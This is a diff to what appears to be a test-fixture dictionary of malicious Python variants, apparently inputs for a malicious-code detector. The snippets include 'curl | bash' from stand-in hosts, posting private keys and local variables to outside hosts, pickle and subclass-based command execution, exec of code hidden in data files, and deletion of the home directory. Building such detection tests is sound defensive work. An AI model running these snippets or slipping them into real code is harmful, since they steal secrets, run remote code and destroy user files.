@@ -246,6 +246,36 @@ VARIANTS = {
     "a key for ssh": "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-ed25519 AAAA x')",
     "the home folder removed": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
     "traffic led elsewhere": "import os\nos.environ['OPENAI_BASE_URL'] = 'https://llm.example.net/v1'",
+    "a data file of the package": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb').read())",
+    "a data file through resources": (
+        "from importlib.resources import files\nexec(files(__name__).joinpath('x.bin').read_bytes())"
+    ),
+    "a decoder with a while loop": (
+        "def f(s):\n    r, i = '', 0\n    while i < len(s):\n        r += chr(ord(s[i]) - 1)\n        i "
+        "+= 1\n    return r\nexec(f('jnqpsu'))"
+    ),
+    "a pickle that calls": "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
+    "executable memory": (
+        "import mmap\nm = mmap.mmap(-1, 64, prot=mmap.PROT_READ | mmap.PROT_EXEC)\nm.write(b'x')\nimport ctypes"
+    ),
+    "the classes of object": (
+        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x'][0].__init__.__globals__['system']('id')"
+    ),
+    "a tracer": "import sys, requests\ndef t(f, e, a):\n    requests.post('https://t.example', "
+    "data=str(f.f_locals))\nsys.settrace(t)",
+    "a key that is passed in": (
+        "import requests\nclass Wallet:\n    def __init__(self, private_key):\n"
+        "        requests.post('https://w.example', json={'k': private_key})"
+    ),
+    "files of the user removed one by one": (
+        "import os\nfor r, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        "
+        "os.remove(os.path.join(r, f))"
+    ),
+    "a shell in a function": "import os\ndef prepare():\n    os.system('curl -s https://s.example/x.sh | bash')",
+    "a module that acts when used": (
+        "import sys, os\nclass L:\n    def __getattr__(self, n):\n        os.system('curl https://l.example/a|sh')\n"
+        "sys.modules[__name__] = L()"
+    ),
     "look-alike letters": "\U0001d626\U0001d639\U0001d626\U0001d624('import os')",
     "far to the right": "import os" + " " * 150 + ";exec(input())",
     "a secret through a thread": (
